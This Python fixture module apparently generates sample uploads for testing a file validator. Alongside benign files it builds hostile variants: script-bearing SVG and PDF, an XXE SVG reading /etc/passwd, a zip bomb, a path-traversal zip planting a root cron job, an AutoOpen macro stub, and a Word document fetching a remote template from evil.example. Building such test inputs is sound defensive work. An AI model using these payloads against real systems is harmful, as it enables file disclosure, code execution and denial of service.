"""Documents, drawings, archives and a sound, as small as they can be, honest and otherwise."""

from __future__ import annotations

import io
import zipfile
from typing import Final

BOMB = 60_000_000  # bytes of nothing, packed into 60 kB
SECONDS = 4  # of silence

_SCHEMAS: Final = "http://schemas.openxmlformats.org"
_WORD: Final = "application/vnd.openxmlformats-officedocument.wordprocessingml"
_RELATION: Final = f"{_SCHEMAS}/officeDocument/2006/relationships"

CSV: Final = b"piece,price\r\nTide Mug,24.00\r\nSalt Jar,36.00\r\nGull Jug,52.00\r\n"

SVG: Final = b"""<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 480 360">
<rect width="480" height="360" fill="#f3e3cd"/><circle cx="240" cy="150" r="70" fill="#f9b872"/>
<path d="M0 220q60-24 120 0t120 0 120 0 120 0v140H0z" fill="#6a9fa2"/>
<path d="M0 270q60-24 120 0t120 0 120 0 120 0v90H0z" fill="#3f787e"/>
%s</svg>
"""

DRAWING: Final = SVG % b""
DRAWING_WITH_SCRIPT: Final = SVG % b"<script>alert(document.domain)</script>\n"
DRAWING_THAT_READS: Final = (
    b'<?xml version="1.0"?>\n<!DOCTYPE svg [<!ENTITY secret SYSTEM "file:///etc/passwd">]>\n'
    + SVG % b'<text x="20" y="40">&secret;</text>\n'
)


def letter(*, catalog: bytes = b"", more: bytes = b"") -> bytes:
    """Return a PDF of one page; ``catalog`` is what it does, ``more`` a fifth object."""
    font = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
    text = b"BT /F1 24 Tf 60 740 Td (Breakwater: fired twice, packed in wool.) Tj ET"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R%s >>" % catalog,
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Font << /F1 %s >> >> >>" % font,
        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(text), text),
        *filter(None, [more]),
    ]
    body = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
    places = []
    for number, content in enumerate(objects, 1):
        places.append(len(body))
        body += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    rows = b"".join(b"%010d 00000 n \n" % place for place in places)
    count = len(objects) + 1
    return (
        body
        + b"xref\n0 %d\n0000000000 65535 f \n%s" % (count, rows)
        + b"trailer\n<< /Root 1 0 R /Size %d >>\nstartxref\n%d\n%%%%EOF\n" % (count, len(body))
    )


def letter_with_script() -> bytes:
    script = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
    return letter(catalog=b" /OpenAction 5 0 R", more=script)


def zipped(parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def shed() -> bytes:
    return zipped({"prices.csv": CSV, "drawings/harbour.svg": DRAWING})


def bomb() -> bytes:
    return zipped({"nothing.bin": bytes(BOMB)})


def way_out() -> bytes:
    return zipped({"holiday.txt": b"Sea.", "../../../etc/cron.d/gull": b"* * * * * root peck\n"})


def word(parts: dict[str, bytes], *types: str, relation: str = "") -> bytes:
    """Return a Word document with further parts, content types and one relation."""
    text = "Stoneware that can take some weather."
    listed = "".join(types)
    kind = f"{_WORD}.document.main+xml"
    main = "application/vnd.openxmlformats-package.relationships+xml"
    return zipped(
        {
            "[Content_Types].xml": (
                f'<Types xmlns="{_SCHEMAS}/package/2006/content-types">'
                f'<Default Extension="rels" ContentType="{main}"/>'
                f'<Override PartName="/word/document.xml" ContentType="{kind}"/>{listed}</Types>'
            ).encode(),
            "_rels/.rels": relations("officeDocument", 'Target="word/document.xml"'),
            "word/document.xml": (
                f'<w:document xmlns:w="{_SCHEMAS}/wordprocessingml/2006/main">'
                f"<w:body><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:body></w:document>"
            ).encode(),
            **({"word/_rels/document.xml.rels": relation.encode()} if relation else {}),
            **parts,
        }
    )


def relations(kind: str, target: str) -> bytes:
    return (
        f'<Relationships xmlns="{_SCHEMAS}/package/2006/relationships">'
        f'<Relationship Id="r1" Type="{_RELATION}/{kind}" {target}/></Relationships>'
    ).encode()


def with_macro() -> bytes:
    kind = "application/vnd.ms-office.vbaProject"
    row = f'<Override PartName="/word/vbaProject.bin" ContentType="{kind}"/>'
    return word({"word/vbaProject.bin": b"Sub AutoOpen()"}, row)


def with_template() -> bytes:
    target = 'Target="https://evil.example/run.dotm" TargetMode="External"'
    return word({}, relation=relations("attachedTemplate", target).decode())


def silence() -> bytes:
    """Return an MP3: MPEG 1, layer III, 128 kbit/s, 44,100 Hz, 38.28 frames a second."""
    frame = b"\xff\xfb\x90\x00" + bytes(413)
    return frame * int(SECONDS * 38.28)
